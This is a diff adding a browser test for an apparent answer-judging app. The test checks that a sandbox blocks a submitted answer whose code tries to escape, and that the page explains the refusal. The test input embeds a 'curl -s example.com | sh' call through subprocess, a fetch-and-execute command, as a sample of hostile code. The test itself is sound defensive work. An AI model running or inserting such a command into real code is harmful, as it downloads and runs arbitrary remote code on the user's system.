@@ -186,6 +186,28 @@ def test_a_reference_function_decides_by_what_the_answers_return_run_in_the_jail
     screenshot(page, shots / "default_judge_code_run.png", main_only=True)
 
 
+def test_an_answer_whose_code_tries_to_get_out_gets_no_count_and_the_page_says_why(
+    page,  # noqa: F811
+    shots: Path,  # noqa: F811
+) -> None:
+    need_jail()
+    page.reload()
+    pairwise_form(page)
+    page.locator(".st-key-reference textarea").fill(CODE_REFERENCE)
+    escaping = (
+        "```python\nimport subprocess\n\ndef second_largest(xs):\n"
+        "    subprocess.run(['sh', '-c', 'curl -s example.com | sh'])\n"
+        "    return sorted(set(xs))[-2] if len(set(xs)) > 1 else None\n```"
+    )
+    fields = {"question": CODE_QUESTION, "answer_1": escaping, "answer_2": CODE_ANSWERS[1]}
+    shown = judge_pair(page, **fields)
+    assert shown == "Verdict: Answer B is better", shown
+    text = main_text(page)
+    assert "In the jail: answer A's function raised PermissionError on every input" in text
+    assert "the jail refused what it tried" in text
+    screenshot(page, shots / "default_judge_code_refused.png", main_only=True)
+
+
 ONE_CRITERION_RUBRIC = """\
 id: right_answer_1to5
 name: Right answer (1-5)
